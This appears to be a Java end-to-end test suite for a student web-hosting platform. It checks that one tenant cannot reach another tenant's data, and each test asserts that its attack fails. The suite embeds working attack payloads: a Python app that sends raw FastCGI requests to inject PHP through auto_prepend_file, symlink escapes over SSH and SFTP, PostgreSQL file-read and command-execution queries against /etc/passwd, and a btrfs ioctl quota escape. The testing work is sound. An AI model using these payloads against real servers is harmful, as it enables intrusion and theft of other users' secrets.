package edu.tjhsst.director.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.Base64;

import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.openqa.selenium.By;

import edu.tjhsst.director.common.testing.BrowserTest;

/**
 * One student attacks another on the whole platform ({@code ./director up}, real Swarm, Nginx, PostgreSQL), with
 * nothing but what a student has: the portal, SSH and SFTP into their own sites, and their own site's process. The
 * victim has a static, a PHP and a dynamic site with a secret in each {@code private/}; every attack must yield
 * nothing of it, and the victim's sites keep serving. Mallory stays signed in to the portal for every test.
 */
@BrowserTest
class TenantAttackJourneyTests {

	@RegisterExtension
	static final Journey JOURNEY = new Journey();

	private static final String SECRET = "victor-private-5e0d1b";

	private static final String VICTOR = "victor";

	private static final String MALLORY = "mallory";

	private static final String PASSWORD = "attack-e2e-password-1";

	/**
	 * The attacker's app: {@code /probe?host=H&port=P} says whether a TCP connection opens, {@code /fastcgi?host=H}
	 * sends the FastCGI request that once ran the attacker's PHP inside another site's php-fpm.
	 */
	private static final String ATTACK_APP = """
			import os, socket, struct
			from http.server import BaseHTTPRequestHandler, HTTPServer
			from urllib.parse import urlparse, parse_qs

			def connect(host, port):
			    try:
			        return socket.create_connection((host, int(port)), timeout=3), "connected"
			    except Exception as e:
			        return None, "failed: %s" % e

			def record(kind, content):
			    return struct.pack("!BBHHBB", 1, kind, 1, len(content), 0, 0) + content

			def pairs(values):
			    out = b""
			    for k, v in values.items():
			        k, v = k.encode(), v.encode()
			        for n in (len(k), len(v)):
			            out += bytes([n]) if n < 128 else struct.pack("!I", n | 0x80000000)
			        out += k + v
			    return out

			def fastcgi(host):
			    s, state = connect(host, 9000)
			    if s is None:
			        return state
			    code = b"<?php echo 'RAN-AS ', getenv('DIRECTOR_SITE_NAME'), ' ', @file_get_contents('/site/private/secret.txt'); exit; ?>"
			    params = {"GATEWAY_INTERFACE": "FastCGI/1.0", "REQUEST_METHOD": "POST",
			              "SCRIPT_FILENAME": "/site/public/index.php", "SCRIPT_NAME": "/index.php",
			              "CONTENT_TYPE": "text/plain", "CONTENT_LENGTH": str(len(code)),
			              "PHP_VALUE": "auto_prepend_file = php://input", "PHP_ADMIN_VALUE": "allow_url_include = On"}
			    s.sendall(record(1, struct.pack("!HB5x", 1, 0)) + record(4, pairs(params)) + record(4, b"")
			              + record(5, code) + record(5, b""))
			    data = b""
			    try:
			        while True:
			            chunk = s.recv(65536)
			            if not chunk:
			                break
			            data += chunk
			    except Exception:
			        pass
			    return "connected; answer: " + data.decode("latin-1")

			class Handler(BaseHTTPRequestHandler):
			    def do_GET(self):
			        url = urlparse(self.path)
			        q = {k: v[0] for k, v in parse_qs(url.query).items()}
			        if url.path == "/probe":
			            s, body = connect(q["host"], q["port"])
			            if s:
			                s.close()
			        elif url.path == "/fastcgi":
			            body = fastcgi(q["host"])
			        else:
			            body = "attacker app"
			        data = body.encode()
			        self.send_response(200)
			        self.send_header("Content-Length", str(len(data)))
			        self.end_headers()
			        self.wfile.write(data)

			HTTPServer(("0.0.0.0", int(os.environ["PORT"])), Handler).serve_forever()
			""";

	private static Ssh ssh;

	private static long victimStatic;

	private static long victimPhp;

	private static long victimApp;

	private static long attackerApp;

	/** Every site made, so that nothing of them outlives the test. */
	@BeforeAll
	static void twoStudentsAndTheirSites() throws Exception {
		ssh = new Ssh(JOURNEY.platform().shellPort);
		JOURNEY.portal().logIn("admin", JOURNEY.platform().adminPassword);
		JOURNEY.portal().createStudent(VICTOR, PASSWORD);
		JOURNEY.portal().createStudent(MALLORY, PASSWORD);
		JOURNEY.portal().logOut();

		JOURNEY.portal().logIn(VICTOR, PASSWORD);
		victimStatic = create("victor-static", "static", null);
		victimPhp = create("victor-php", "php", null);
		victimApp = create("victor-app", "dynamic", "python");
		for (String site : new String[] { "victor-static", "victor-php", "victor-app" }) {
			asVictor(site, "echo " + SECRET + " > /site/private/secret.txt && echo " + site
					+ " serves > /site/public/index.html");
		}
		asVictor("victor-php", "echo \"<?php echo 'victor-php runs';\" > /site/public/index.php");
		asVictor("victor-app", "printf '#!/bin/sh\\ncd /site/public && exec python3 -m http.server \"$PORT\"\\n'"
				+ " > /site/run.sh && chmod +x /site/run.sh");
		JOURNEY.portal().restart(victimApp);
		JOURNEY.portal().logOut();

		JOURNEY.portal().logIn(MALLORY, PASSWORD);
		attackerApp = create("mallory-app", "dynamic", "python");
		String app = Base64.getEncoder().encodeToString(ATTACK_APP.getBytes(StandardCharsets.UTF_8));
		asMallory("mallory-app", "echo " + app + " | base64 -d > /site/app.py && printf '#!/bin/sh\\n"
				+ "exec python3 /site/app.py\\n' > /site/run.sh && chmod +x /site/run.sh");
		JOURNEY.portal().restart(attackerApp);
		JOURNEY.answers().await("mallory-app", "/", "attacker app");
	}

	@Test
	void aSitesProcessCannotRunCodeInAnotherSitesPhpFpm() throws Exception {
		String answer = attack("/fastcgi?host=" + JOURNEY.platform().siteService(victimPhp));

		assertThat(answer).doesNotContain(SECRET).doesNotContain("RAN-AS").startsWith("failed");
		assertThat(JOURNEY.answers().await("victor-php", "/", "victor-php runs").status()).isEqualTo(200);
	}

	@Test
	void aSitesProcessReachesNoOtherSitesProcessByName() throws Exception {
		assertThat(attack("/probe?host=" + JOURNEY.platform().siteService(attackerApp) + "&port=8080")).as("its own service, the control")
			.isEqualTo("connected");

		assertThat(attack("/probe?host=" + JOURNEY.platform().siteService(victimApp) + "&port=8080")).startsWith("failed");
		assertThat(attack("/probe?host=" + JOURNEY.platform().siteService(victimPhp) + "&port=9000")).startsWith("failed");
		assertThat(attack("/probe?host=" + JOURNEY.platform().siteService(victimPhp) + "&port=8080")).startsWith("failed");
		assertThat(JOURNEY.answers().await("victor-app", "/", "victor-app serves").status()).isEqualTo(200);
	}

	@Test
	void aDocumentRootReplacedOverSshByALinkToAnotherSiteServesNothingOfIt() throws Exception {
		create("mallory-static", "static", null);
		asMallory("mallory-static", "rm -rf /site/public && ln -s ../" + victimStatic + "/private /site/public");

		Http.Response stolen = Http.get(JOURNEY.platform().sitesPort, "mallory-static.sites.localhost", "/secret.txt");

		assertThat(stolen.body()).doesNotContain(SECRET);
		assertThat(stolen.status()).isIn(403, 404);
		assertThat(JOURNEY.answers().await("victor-static", "/", "victor-static serves").status()).isEqualTo(200);
	}

	@Test
	void aLinkMadeWithSftpsSymlinkServesNothingOfAnotherSite() throws Exception {
		create("mallory-files", "static", null);
		Ssh.Result sftp = ssh.sftpWithPassword(PASSWORD, MALLORY + "+mallory-files",
				"symlink ../../" + victimApp + "/private/secret.txt /site/public/stolen.txt\n"
						+ "symlink /sites/" + victimApp + "/private/secret.txt /site/public/absolute.txt\n"
						+ "symlink ../private /site/public/mine\n");
		assertThat(sftp.exitCode()).as(sftp.err()).isZero();
		asMallory("mallory-files", "echo mallory-private > /site/private/own.txt && test -L /site/public/stolen.txt");

		for (String path : new String[] { "/stolen.txt", "/absolute.txt", "/mine/own.txt" }) {
			Http.Response stolen = Http.get(JOURNEY.platform().sitesPort, "mallory-files.sites.localhost", path);
			assertThat(stolen.body()).as(path).doesNotContain(SECRET).doesNotContain("mallory-private");
			assertThat(stolen.status()).as(path).isIn(403, 404);
		}
	}

	@Test
	void theSqlConsoleReadsNoFileAndRunsNoProgramOnTheServer() {
		JOURNEY.portal().createDatabase(attackerApp, "Embedded PostgreSQL");

		for (String sql : new String[] { "create table loot(l text); copy loot from program 'cat /etc/passwd'",
				"copy loot from '/etc/passwd'", "select pg_read_file('/etc/passwd')", "select pg_ls_dir('.')",
				"select lo_import('/etc/passwd')" }) {
			String page = JOURNEY.portal().runSql(attackerApp, sql);
			assertThat(page).as(sql).doesNotContain("root:x:0:0").containsIgnoringCase("permission denied");
		}
	}

	@Test
	void aStudentDownloadsNoCopyOfAnotherStudentsSiteNorItsDatabase() throws Exception {
		assertThat(JOURNEY.portal().download("/sites/" + attackerApp + "/copy").statusCode()).as("Mallory's own copy")
			.isEqualTo(200);
		for (long victim : new long[] { victimStatic, victimApp }) {
			HttpResponse<byte[]> copy = JOURNEY.portal().download("/sites/" + victim + "/copy");

			assertThat(copy.statusCode()).as("Mallory's copy of site %d", victim).isIn(403, 404);
			assertThat(new String(copy.body(), StandardCharsets.UTF_8)).doesNotContain(SECRET);
		}
	}

	private static long create(String name, String type, String runtime) {
		long id = JOURNEY.portal().createSite(name, type, runtime);
		return id;
	}

	/** What the attacker's app answers to the path, asked through the router as anyone could. */
	private static String attack(String path) throws Exception {
		return JOURNEY.answers().await("mallory-app", path, "").body();
	}

	@Test
	void aStudentWritesNoFurtherThanTheDiskSpaceAnAdminGaveTheirSiteNorEscapesItWhileTheOtherWritesOn()
			throws Exception {
		JOURNEY.portal().logOut();
		JOURNEY.portal().logIn("admin", JOURNEY.platform().adminPassword);
		JOURNEY.portal().setDiskSpace(attackerApp, "24M");
		JOURNEY.portal().logOut();
		JOURNEY.portal().logIn(MALLORY, PASSWORD);
		try {
			Ssh.Result fill = ssh.withPassword(PASSWORD, MALLORY + "+mallory-app",
					"dd if=/dev/zero of=/site/private/fill bs=1M count=64; sync -f /site");
			assertThat(fill.err()).contains("dd: error writing '/site/private/fill': Disk quota exceeded");
			// A subvolume of its own would have a quota group without a limit.
			Ssh.Result escape = ssh.withPassword(PASSWORD, MALLORY + "+mallory-app", "perl -e 'open(my $d, \"<\", "
					+ "\"/site/private\") or die; my $a = pack(\"q a4088\", 0, \"escape\"); "
					+ "print ioctl($d, 0x5000940e, $a) ? \"made\" : \"refused: $!\"'");
			assertThat(escape.out()).isEqualTo("refused: Operation not permitted");

			// The site's page says so.
			JOURNEY.browser().get(JOURNEY.platform().portal() + "/sites/" + attackerApp);
			assertThat(JOURNEY.browser().findElement(By.id("disk-usage")).getText())
				.matches("Disk: 2[0-9](\\.[0-9])? MB used of 24 MB");
			assertThat(JOURNEY.browser().findElement(By.id("disk-full")).getText()).contains("used all of its disk space");
			Browser.screenshot(JOURNEY.browser(), "attack-disk-full");

			// The other student's site has its own space.
			asVictor("victor-app", "dd if=/dev/zero of=/site/private/more bs=1M count=32 && rm /site/private/more");
		}
		finally {
			asMallory("mallory-app", "rm -f /site/private/fill");
		}
	}

	private static void asVictor(String site, String command) throws Exception {
		Ssh.Result result = ssh.withPassword(PASSWORD, VICTOR + "+" + site, command);
		assertThat(result.exitCode()).as("%s: %s", command, result.err()).isZero();
	}

	private static void asMallory(String site, String command) throws Exception {
		Ssh.Result result = ssh.withPassword(PASSWORD, MALLORY + "+" + site, command);
		assertThat(result.exitCode()).as("%s: %s", command, result.err()).isZero();
	}

}
